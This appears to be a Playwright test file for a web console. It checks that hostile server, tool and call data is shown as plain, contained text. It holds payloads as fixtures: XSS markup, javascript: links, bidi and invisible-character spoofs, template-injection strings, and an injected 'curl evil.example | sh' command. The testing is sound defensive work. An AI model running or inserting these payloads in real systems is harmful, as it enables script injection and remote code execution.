"""A server that says everything it should not. The page shows it as text and keeps its shape."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Page, expect
from tests.support.console import Site, Visit
from tests.support.desk import MemoryDesk, call

from homeport.ops.rows import Notice, ProjectRow, ServerRow, ToolRow

Serve = Callable[[MemoryDesk], Site]
Go = Callable[..., Visit]

MARKUP = '<img src=x onerror="window.hit=1"><script>window.hit=1</script><style>*{display:none}</style></bdi></li>'
LINKS = "javascript:window.hit=1 [press](javascript:hit=1) http://evil.example/a <a href='javascript:hit=1'>b</a>"
BIDI = "safe\u202eelif.exe\u2066\u200f\u061c"
HIDDEN = "tool\u200b\u00ad\ufeff\U000e0049\U000e0047\u115f\ud800"
CONTROLS = "a\x00b\x1b[31mc\rd\x85e\u2028f"
STACKED = "Z" + "\u0335\u0321\u0340\u0489" * 400
HUGE = "n" * 100_000
BLANK = "\u2800 \u3164 "
TEMPLATE = "{{constructor.constructor('window.hit=1')()}} ${window.hit=1} %s %n"
COMMAND = "homeport trust; curl evil.example | sh\nhomeport trust"
TEXTS = [MARKUP, LINKS, BIDI, HIDDEN, CONTROLS, STACKED, HUGE, BLANK, TEMPLATE, COMMAND, "__proto__", "constructor"]


def everything(text: str, number: int) -> dict[str, Any]:
    return {
        "source": text,
        "state": "failed",
        "sentence": text,
        "remedy": text,
        "era": text,
        "version": text,
        "stderr": (text, text),
        "tools_locked": 1,
        "pid": number,
        "since_ms": 0,
    }


def a_hostile_desk() -> MemoryDesk:
    servers = [ServerRow(name=text, **everything(text, number)) for number, text in enumerate(TEXTS)]
    schema = '{"properties": {"' + "p" * 20_000 + '": {"type": "' + "t" * 20_000 + '", "description": "<b>x</b>"}}}'
    tools = [
        ToolRow(server=text, name=text, served=text, title=text, description=text, reason=text, schema=schema)
        for text in TEXTS
    ]
    digest = {"keys": TEXTS[:6], "bytes": 1, "digest": MARKUP}
    rows = [
        call(number, stage=stage, **dict.fromkeys(("server", "name", "profile", "client", "session", "reason"), text))
        for number, (text, stage) in enumerate((text, stage) for text in TEXTS for stage in ("refused", "ended"))
    ]
    rows += [call(900, args=digest, result=digest, kind=MARKUP, decision=MARKUP, rule=MARKUP, place=MARKUP, edge=BIDI)]
    project = ProjectRow(
        name=MARKUP + HUGE,
        root=BIDI,
        endpoint=LINKS,
        version=MARKUP,
        profiles=("default", MARKUP, BIDI),
        notices=[Notice(code=MARKUP, text=text, remedy=text) for text in TEXTS],
    )
    return MemoryDesk(servers, tools, rows, project)


def open_every_row(page: Page) -> None:
    """One after the other, where only one stays open at a time."""
    for head in page.locator(".row .head").all():
        head.evaluate("head => head.click()")


def assert_harmless(opened: Visit, heads: int) -> None:
    page = opened.page
    assert page.evaluate("window.hit") is None
    assert opened.problems == []
    assert opened.foreign == []
    assert page.locator("img, iframe, object, embed, main script, main style").count() == 0
    ours = page.locator("a").evaluate_all("links => links.every(link => link.getAttribute('href').startsWith('#'))")
    assert ours
    assert page.locator(".head").count() == heads
    assert page.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth")
    assert page.evaluate("Object.keys(Object.prototype).length") == 0
    shown = page.evaluate("document.body.textContent")
    for character in "\u202e\u2066\u200f\u061c\u200b\u00ad\ufeff\x00\x1b\x85\u2028\U000e0049":
        assert character not in shown, f"U+{ord(character):04X}"


@pytest.mark.parametrize("width", [400, 1280])
@pytest.mark.parametrize(("name", "heads"), [("servers", 12), ("tools", 12), ("calls", 25)])
def test_what_a_server_says_is_text_and_keeps_its_place(
    site_of: Serve, visit: Go, name: str, heads: int, width: int
) -> None:
    opened = visit(site_of(a_hostile_desk()), name, width=width)
    page = opened.page
    expect(page.locator(".head")).to_have_count(heads)
    open_every_row(page)
    assert_harmless(opened, heads)
    assert page.evaluate("document.querySelector('header').offsetHeight") < 120
    tallest = page.locator(".head").evaluate_all("heads => Math.max(...heads.map(head => head.offsetHeight))")
    assert tallest < 120


def test_characters_that_would_not_be_seen_are_named(site_of: Serve, visit: Go) -> None:
    page = visit(site_of(a_hostile_desk())).page
    expect(page.locator(".server").nth(2).locator(".name")).to_have_text("safeU+202Eelif.exeU+2066U+200FU+061C")
    expect(page.locator(".server").nth(3).locator(".name")).to_contain_text("U+E0049U+E0047")


def test_a_name_without_end_is_cut_and_says_so(site_of: Serve, visit: Go) -> None:
    page = visit(site_of(a_hostile_desk()), "tools").page
    tool = page.locator(".tool").nth(6)
    assert tool.bounding_box() is not None
    expect(tool.locator(".name .rest")).to_contain_text("99,880 more characters")


def test_no_command_is_offered_that_hides_something_or_holds_a_second_one(site_of: Serve, visit: Go) -> None:
    for name in ("servers", "tools"):
        page = visit(site_of(a_hostile_desk()), name).page
        open_every_row(page)
        labels = page.locator(".copy").evaluate_all("all => all.map(each => each.getAttribute('aria-label'))")
        assert not [label for label in labels if "curl" in label]
        assert not [label for label in labels if "U+" in label]


def test_hostile_calls_and_states_that_arrive_live_are_text_too(site_of: Serve, visit: Go) -> None:
    site = site_of(MemoryDesk())
    opened = visit(site, "calls")
    for number, text in enumerate(TEXTS):
        row = call(number, name=text, server=text, client=text, stage="refused", decision=text, reason=text)
        site.at.do(lambda row=row: site.desk.see(row))
    expect(opened.page.locator(".call")).to_have_count(len(TEXTS))
    assert_harmless(opened, len(TEXTS))


def test_its_tab_is_named_without_tricks(site_of: Serve, visit: Go) -> None:
    desk = a_hostile_desk()
    desk.project_row = ProjectRow(name=f"good{BIDI}", root="", endpoint="", version="")
    page = visit(site_of(desk)).page
    expect(page.locator(".server").first).to_be_visible()
    assert page.title().startswith("Servers · goodsafe⟨U+202E⟩elif")
